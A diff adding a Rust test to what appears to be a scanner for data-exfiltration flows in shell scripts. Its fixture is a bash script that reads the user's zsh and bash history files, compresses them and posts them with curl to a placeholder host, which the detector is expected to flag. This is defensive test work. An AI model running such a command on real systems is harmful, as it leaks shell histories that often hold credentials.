@@ -632,3 +632,13 @@ fn downloaded_code_that_reaches_a_runner_is_a_download_exec_flow() {
         assert!(flows(&[(name, code)]).is_empty(), "{name}");
     }
 }
+
+#[test]
+fn shell_histories_read_in_a_group_piped_to_the_network_are_a_flow() {
+    let sh = "#!/bin/bash\n{\n  cat \"$HOME/.zsh_history\" \"$HOME/.bash_history\" 2>/dev/null\n} | gzip | curl -s -X POST --data-binary @- https://h.invalid/s\n";
+    let out = flows(&[("s.sh", sh)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].finding.source.as_ref().map(|s| s.line), Some(3));
+    // A history searched locally is no flow.
+    assert!(flows(&[("t.sh", "#!/bin/sh\ngrep -c git ~/.bash_history\n")]).is_empty());
+}
